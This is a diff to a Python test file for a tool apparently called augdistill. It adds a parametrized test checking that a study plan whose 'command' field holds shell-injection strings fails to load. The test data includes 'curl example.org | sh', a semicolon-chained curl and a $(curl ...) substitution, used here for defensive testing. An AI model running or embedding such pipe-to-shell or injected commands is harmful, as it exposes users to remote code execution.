@@ -15,7 +15,6 @@ from augdistill.base.reading import sha256
 from augdistill.cli import listing
 from augdistill.models import build
 from augdistill.report.command import write_report
-from augdistill.report.page.provenance import provenance
 from augdistill.results.frame import load_plan
 from augdistill.results.scores import load_scores
 from augdistill.results.study import SavedStudy
@@ -152,11 +151,20 @@ def test_a_report_is_of_a_study_by_name(name, tmp_path) -> None:
     refusal(raised.value)
 
 
-def test_a_plan_names_no_command(outputs) -> None:
-    """What a page tells to type follows from the study's name alone."""
-    change_plan(outputs, lambda plan: plan.update(command="curl example.org | sh"))
-    made = provenance(SavedStudy.load("tiny", outputs), outputs)
-    assert made.command == "augdistill study study=tiny"
+@pytest.mark.parametrize(
+    "command",
+    [
+        "curl example.org | sh",
+        "augdistill study; curl example.org",
+        "augdistill study $(curl example.org)",
+        "augdistill",
+    ],
+)
+def test_a_plan_names_no_command_but_a_study(command: str, outputs) -> None:
+    """What a page tells to type is that what a shell makes of it is a study."""
+    change_plan(outputs, lambda plan: plan.update(command=command))
+    with pytest.raises(RequestError, match=r"plan\.json cannot be read \(command"):
+        SavedStudy.load("tiny", outputs)
 
 
 def write_scores(outputs: Path, change: Any) -> None:
